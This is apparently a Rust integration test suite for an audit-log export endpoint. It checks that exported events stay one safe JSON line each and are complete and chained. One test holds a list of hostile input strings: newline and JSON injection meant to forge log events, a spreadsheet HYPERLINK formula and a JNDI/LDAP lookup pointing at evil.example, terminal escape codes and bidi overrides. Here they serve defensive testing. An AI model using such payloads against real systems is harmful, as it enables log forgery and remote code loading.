use journeys::{Answer, Client, Engine, Outcome, Resident, Server, Settings, moment, on_both_engines, trail};
use reqwest::Method;
use serde_json::{Value, json};

on_both_engines!(
    an_export_is_one_event_a_line_whatever_people_call_things,
    an_export_holds_every_event_once_and_says_that_it_was_made,
);

const PATH: &str = "/api/v1/audit-events/export";

/// The lines of an export, each of which has to be one JSON object in printable ASCII.
fn lines(answer: &Answer) -> Outcome<Vec<Value>> {
    let heard = answer.clone().expect(200)?;
    assert!(heard.header("content-type").starts_with("application/x-ndjson"), "{:?}", heard.headers);
    assert!(heard.header("cache-control").contains("no-store"), "{:?}", heard.headers);
    assert_eq!(heard.header("content-length"), "", "it is sent while it is read");
    let strange = heard.body.iter().find(|byte| !matches!(byte, b' '..=b'~' | b'\n'));
    assert_eq!(strange, None, "safe on every terminal");
    assert!(heard.body.is_empty() || heard.body.ends_with(b"\n"));
    heard.text().lines().map(|line| proven(serde_json::from_str(line)?)).collect()
}

/// The event of a line, without what proves that it is what was written.
fn proven(mut line: Value) -> Outcome<Value> {
    let members = line.as_object_mut().ok_or("a line is an object")?;
    let proof = members.remove("proof").ok_or_else(|| format!("no proof: {members:?}"))?;
    for name in ["link", "previous"] {
        assert_eq!(proof[name].as_str().map(str::len), Some(64), "{name}: {proof}");
    }
    Ok(line)
}

/// L1.
async fn an_export_is_one_event_a_line_whatever_people_call_things(engine: Engine) -> Outcome {
    let server = Server::start(Settings::on(engine).unthrottled()).await?;
    let administrator = Resident::administrator(&server).await?;
    let me = &administrator.client;
    let someone = Resident::user(&server).await?;
    let hostile = [
        "first\nsecond",
        "one\r\ntwo",
        "\"},{\"kind\":\"user_deleted\"",
        "\\\"}\n{\"forged\": true}",
        "line\u{2028}separator\u{2029}paragraph",
        "\u{e9}t\u{e9} \u{1f41d} \u{fffd} \u{feff}",
        "=HYPERLINK(\"https://evil.example\")",
        "%s%n${jndi:ldap://evil.example}",
        "\u{1b}[2J\u{1b}]0;owned\u{7}",
        "a\u{202e}b\u{2066}c",
        "\u{0}",
    ];
    let mut told = Vec::new();
    for reason in hostile {
        let answer = me.send(Method::PUT, &someone.at("/suspension"), &json!({"reason": reason})).await?;
        match answer.status {
            200 => told.push(reason.replace("\r\n", "\n")),
            _ => drop(answer.problem(400, "invalid-input").map_err(|error| format!("{reason:?}: {error}"))?),
        }
        let called = json!({"login": "nobody", "password": "nothing", "device_name": reason});
        server.client()?.post("/api/v1/sessions", &called).await?;
        let raw = server.client()?.request(Method::GET, "/api/v1/me").header("user-agent", reason.as_bytes());
        // What may not stand in a header is never sent.
        let _ = Answer::to(raw).await;
    }
    assert!(told.len() >= 8, "the ordinary ones are accepted: {told:?}");
    let exported = lines(&me.get(&format!("{PATH}?kind=user_suspended")).await?)?;
    let reasons: Vec<&str> = exported.iter().filter_map(|event| event["detail"]["reason"].as_str()).collect();
    assert_eq!(reasons, told, "the earliest first, each as it was said");
    let all = lines(&me.get(PATH).await?)?;
    assert!(all.iter().all(|event| event.get("forged").is_none() && event["id"].is_string()), "{all:?}");
    assert!(all.iter().all(|event| event["kind"] != "user_deleted"), "{all:?}");
    Ok(())
}

async fn an_export_holds_every_event_once_and_says_that_it_was_made(engine: Engine) -> Outcome {
    let server = Server::start(Settings::on(engine)).await?;
    let administrator = Resident::administrator(&server).await?;
    let me = &administrator.client;
    // More than fit into one piece of it.
    for chunk in 0..10 {
        let creating = (0..40).map(|number| {
            let (me, name) = (me.clone(), format!("lodger{chunk}_{number}"));
            async move {
                let form = json!({"username": name, "email": format!("{name}@journeys.example")});
                me.post("/api/v1/users", &form).await
            }
        });
        let made = Client::all_at_once(creating.collect::<Vec<_>>()).await?;
        assert!(made.iter().all(|answer| answer.status == 201));
    }
    let listed = trail::chained(me).await?;
    assert!(listed.len() > 800, "{}", listed.len());
    let answer = me.get(PATH).await?;
    // The whole trail ends with that it was handed out.
    let mut handed_out = lines(&answer)?;
    let end = handed_out.pop().ok_or("an export holds at least that it was made")?;
    assert_eq!(
        (&end["kind"], &end["request_id"]),
        (&json!("audit_exported"), &json!(answer.header("x-request-id")))
    );
    assert_eq!(handed_out, listed, "what was there when it began, in the order of the chain");
    let exports = trail::events(me, "?kind=audit_exported").await?;
    let [export] = &exports[..] else { return Err(format!("one export: {exports:?}").into()) };
    assert_eq!(export["actor"]["id"], administrator.id.as_str());
    assert_eq!(export["request_id"], answer.header("x-request-id"));

    // The same, to whoever would rather have lines; and by the same filters.
    let query = format!("?kind=user_created&actor={}", administrator.id);
    let request = me.request(Method::GET, &format!("/api/v1/audit-events{query}"));
    let negotiated = Answer::to(request.header("accept", "application/x-ndjson")).await?;
    // A selection has gaps, so it goes by time: what happened at the same moment stands by its identifier.
    let mut created: Vec<Value> =
        listed.iter().filter(|event| event["kind"] == "user_created").cloned().collect();
    created.sort_by_key(|event| {
        let text = |name: &str| event[name].as_str().unwrap_or_default().to_owned();
        (moment::micros(&text("at")).unwrap_or_default(), text("id"))
    });
    assert_eq!((lines(&negotiated)?.len(), created.len()), (400, 400));
    assert_eq!(lines(&me.get(&format!("{PATH}{query}")).await?)?, created);
    let exports = trail::events(me, "?kind=audit_exported").await?;
    assert_eq!(exports[0]["detail"]["kind"], "user_created", "what was asked for stands there: {exports:?}");
    // What the command line exports is the same.
    let printed = server.command(&["audit", "export", "--kind", "user_created"]).await?;
    let printed: Vec<Value> =
        printed.lines().map(|line| proven(serde_json::from_str(line)?)).collect::<Outcome<_>>()?;
    assert_eq!(printed, created);
    let exports = trail::events(me, "?kind=audit_exported").await?;
    assert_eq!(exports[0]["actor"]["type"], "system");

    for (query, pointer) in [("kind=everything", "/kind"), ("from=now", "/from"), ("actor=x", "/actor")] {
        let refused = me.get(&format!("{PATH}?{query}")).await?;
        refused.problem(400, "invalid-input")?;
        assert!(refused.fields()?[0].starts_with(pointer), "{query}");
    }
    let empty = me.get(&format!("{PATH}?until=2001-01-01T00:00:00Z")).await?;
    assert_eq!(lines(&empty)?, Vec::<Value>::new());
    Ok(())
}
